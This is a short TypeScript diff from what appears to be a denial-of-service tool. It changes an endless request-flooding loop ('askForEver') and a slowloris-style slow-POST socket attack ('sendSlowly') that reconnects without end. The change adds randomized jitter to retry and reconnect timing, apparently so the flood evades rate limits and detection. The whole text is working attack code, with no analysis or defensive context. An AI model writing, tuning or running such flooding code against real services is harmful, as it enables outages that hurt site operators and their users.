@@ -38,7 +38,8 @@ async function askForEver(job: Extract<AttackJob, { kind: 'ask' }>, first: numbe
   for (let at = first; ; at++) {
     const body = job.bodies[at % job.bodies.length] as string;
     const status = await post(job.url, job.headers, body);
-    if (status !== 200) await new Promise((resolve) => setTimeout(resolve, job.pauseMs));
+    if (status !== 200)
+      await new Promise((resolve) => setTimeout(resolve, job.pauseMs * (0.5 + Math.random())));
   }
 }
 
@@ -71,7 +72,7 @@ function sendSlowly({ url, bytes }: Extract<AttackJob, { kind: 'slow' }>): void 
   const { hostname, port, pathname } = new URL(url);
   const socket = connect(Number(port), hostname);
   socket.on('error', () => {});
-  socket.on('close', () => setTimeout(sendSlowly, 500, { url, bytes }));
+  socket.on('close', () => setTimeout(sendSlowly, 4_000 * (0.5 + Math.random()), { url, bytes }));
   socket.write(
     `POST ${pathname} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${bytes}\r\n\r\n`,
   );
